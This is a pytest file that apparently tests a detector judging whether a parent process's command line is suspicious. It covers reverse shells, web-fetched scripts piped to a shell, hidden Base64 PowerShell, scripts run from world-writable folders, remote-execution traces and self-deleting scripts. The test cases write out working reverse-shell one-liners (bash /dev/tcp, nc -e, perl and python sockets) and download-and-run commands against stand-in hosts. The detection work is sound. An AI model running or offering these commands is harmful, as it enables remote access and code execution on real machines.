"""What the parent's own command line says about what it starts."""

from __future__ import annotations

import pytest
from codesignrisk_core.model import Report
from codesignrisk_core.process import starters
from codesignrisk_core.process.parents import Parent

SHELL = Parent("bash", "shell", False)


def found(line: str, parent: Parent = SHELL) -> dict[str, str]:
    report = Report()
    starters.judge(report, line.lower(), parent)
    return dict(report.findings)


REVERSE = "parent_reverse_shell"
FETCHED = "parent_script_fetched"
HIDDEN = "parent_hidden_encoded"
PLACE = "parent_script_place"
POSES = "parent_script_disguised"
IDLE = "parent_without_work"
TOOL = "parent_fake_tool"


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        # a program of Java that came by mail or from the web
        ('"C:\\Java\\bin\\javaw.exe" -jar "C:\\Users\\ann\\Downloads\\Order 7.jar"', [PLACE]),
        ("java -Xmx1g -jar C:\\Users\\Public\\a.jar", [PLACE]),
        ("java -jar C:\\ci\\agent.jar", []),
        ("java -jar C:\\src\\app\\target\\a.jar", []),
        # a script with the name of a document
        ('C:\\Windows\\system32\\cmd.exe /c ""C:\\lab\\Order 7.pdf.bat" "', [POSES]),
        ("wscript.exe C:\\lab\\invoice.docx     .js", [POSES]),
        ("cmd /c C:\\lab\\make.bat C:\\lab\\a.pdf", []),
        ("wscript C:\\lab\\a.pdf.json.js C:\\b.txt.bak", []),
        # a script straight from the web
        ("bash -c curl -s http://h.example/i.sh | bash", [FETCHED]),
        ("sh -c 'wget -qO- https://h.example/i | sudo sh'", [FETCHED]),
        ("/bin/sh -c curl -fsSL https://h.example/i | /bin/zsh", [FETCHED]),
        ('bash -c "$(curl -fsSL https://h.example/i.sh)"', [FETCHED]),
        ("powershell iex (iwr https://h.example/a.ps1)", [FETCHED]),
        ("powershell -c irm https://h.example/a.ps1 | iex", [FETCHED]),
        ("powershell IEX(New-Object Net.WebClient).DownloadString('http://h.example/a')", [FETCHED]),
        ("bash -c curl -o a.sh https://h.example/a.sh; less a.sh", []),
        ("bash -c curl -s https://h.example/a.json | jq .x", []),
        ("bash -c curl -s https://h.example/a | shasum", []),
        # a shell for another host
        ("perl -e use Socket;$i='198.51.100.4';socket(S,PF_INET,SOCK_STREAM,6)", [REVERSE]),
        ("python3 -c 'import socket,os,pty;s=socket.socket()'", [REVERSE]),
        ("python3 -c import pty;pty.spawn('/bin/bash')", [REVERSE]),
        ("python3 -c import pty", []),
        ("/usr/bin/php8.1 -r '$s=fsockopen(1);socket_connect($s)'", [REVERSE]),
        ("bash -c bash -i >& /dev/tcp/198.51.100.4/443 0>&1", [REVERSE]),
        ("nc 198.51.100.4 443 -e /bin/sh", [REVERSE]),
        ("nc.exe -e cmd.exe 198.51.100.4 443", [REVERSE]),
        ("python3 /srv/app/socket_server.py", []),
        ("perl -e print(1)", []),
        ("bash -c exec 3<>/dev/tcp/db/5432", []),
        ("nc -z db 5432", []),
        # without a window, in Base64
        ("powershell -nop -w hidden -enc SQBFAFgA", [HIDDEN]),
        ("powershell.exe -WindowStyle Hidden -EncodedCommand SQBFAFgAIAA=", [HIDDEN]),
        ("powershell.exe -NonInteractive -EncodedCommand SQBFAFgAIAA=", []),
        ("powershell.exe -w hidden -file C:\\tools\\a.ps1", []),
        # scripts in nobody's place
        ("cmd /c C:\\Users\\Public\\run.bat", [PLACE]),
        ('powershell -ep bypass -File "C:\\Windows\\Temp\\a.ps1"', [PLACE]),
        ("python3 /tmp/x.py", [PLACE]),
        ("bash /Volumes/Setup Disk/Install.file", [PLACE]),
        ("bash /Users/mia/build.sh", []),
        ("cmd /c C:\\Users\\mia\\Downloads\\build.bat", []),  # a developer's place too
        ("/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1.2/AnsiballZ_command.py", []),
        ("C:\\tools\\app.exe C:\\Users\\Public\\run.bat", []),
        ("javaw.exe -jar C:\\Users\\Public\\a.jar", [PLACE]),
        ("bash /tmp/.i/postinstall", [PLACE]),
        ("bash /dev/shm/run", [PLACE]),
        ("bash /tmp/postinstall", []),
        ("bash /usr/local/bin/deploy", []),
        # started for nothing
        ("rundll32.exe", [IDLE]),
        ('"C:\\Windows\\SysWOW64\\dllhost.exe"', [IDLE]),
        ("rundll32.exe shell32.dll,Control_RunDLL", []),
        ("C:\\lab\\rundll32.exe", []),
        # tools of attackers behind their interpreter
        ("ruby /usr/bin/msfvenom -x a.apk -o b.apk", [TOOL]),
        ("/opt/metasploit/msfconsole -q", [TOOL]),
        ("ruby /usr/bin/msfvenomous", []),
        ("", []),
    ],
)
def test_what_the_line_says(line: str, indicators: list[str]) -> None:
    assert list(found(line)) == indicators


def test_sentences() -> None:
    assert found("bash -c curl -s http://h.example/i.sh | bash") == {
        FETCHED: "bash runs a script straight from the web"
    }
    assert found("cmd /c C:\\Users\\Public\\run.bat", Parent("cmd.exe", "shell", True)) == {
        PLACE: "cmd.exe runs run.bat out of a place where any user may write"
    }


@pytest.mark.parametrize(
    ("line", "parent_class"),
    [
        ("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1733 2>&1", "remote"),
        ("cmd.exe /Q /c whoami > \\\\127.0.0.1\\C$\\__output 2>&1", "remote"),
        ("cmd.exe /C whoami > C:\\Windows\\Temp\\QwErTyUi.tmp 2>&1", "remote"),
        ("cmd.exe /c dir > \\\\127.0.0.1\\C$\\list.txt", "shell"),
        ("cmd.exe", "shell"),
    ],
)
def test_the_hand_of_a_remote_runner(line: str, parent_class: str) -> None:
    assert starters.remote(line.lower(), SHELL).parent_class == parent_class


def test_only_a_shell_is_somebodys_hand() -> None:
    build = Parent("msbuild.exe", "build", False)
    assert starters.remote("x 1> \\\\127.0.0.1\\admin$\\__1", build) == build


def test_long_lines_take_linear_time() -> None:
    assert found("curl " * 1_600 + "wget | x") == {}
    assert found("iex " * 20_000) == {}


@pytest.mark.parametrize(
    ("text", "trusts", "indicators"),
    [
        ("IEX (iwr http://h.example/a.ps1); certutil -addstore root a.cer", True, [FETCHED]),
        ("certutil -addstore root a.cer; Set-ItemProperty $k ProxyServer '127.0.0.1:8080'", True, ["proxy_set"]),
        ("security add-trusted-cert a.pem && networksetup -setsecurewebproxy Wi-Fi 127.0.0.1 80", True, ["proxy_set"]),
        ("netsh winhttp set proxy 10.0.0.1:80", True, ["proxy_set"]),
        ("netsh winhttp set proxy 10.0.0.1:80", False, []),
        ("netsh winhttp show proxy", True, []),
        ("certutil -addstore root a.cer; Remove-Item $PSCommandPath -Force", True, ["script_deletes_itself"]),
        ('certutil -addstore root a.cer & del "%~f0"', True, ["script_deletes_itself"]),
        ("certutil -addstore root a.cer; Remove-Item a.cer", True, []),
        # of a long script both ends are looked at
        (f"certutil -addstore root a.cer; {'a' * 60_000}; Remove-Item $PSCommandPath", True, ["script_deletes_itself"]),
    ],
)
def test_what_a_script_does_beside(text: str, trusts: bool, indicators: list[str]) -> None:
    report = Report()
    if trusts:
        report.flags.add("TrustedStoreTarget")
    starters.judge_text(report, text)
    assert [finding.indicator for finding in report.findings] == indicators


@pytest.mark.parametrize(
    ("name", "line", "parent_class"),
    [
        ("mmc.exe", "C:\\WINDOWS\\system32\\mmc.exe -Embedding", "remote"),
        ("mmc.exe", '"C:\\Windows\\system32\\mmc.exe" /Embedding', "remote"),
        ("mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\certlm.msc"', ""),
        ("excel.exe", "excel.exe -Embedding", ""),
    ],
)
def test_the_console_that_another_host_started(name: str, line: str, parent_class: str) -> None:
    assert starters.remote(line.lower(), Parent(name, "", False)).parent_class == parent_class
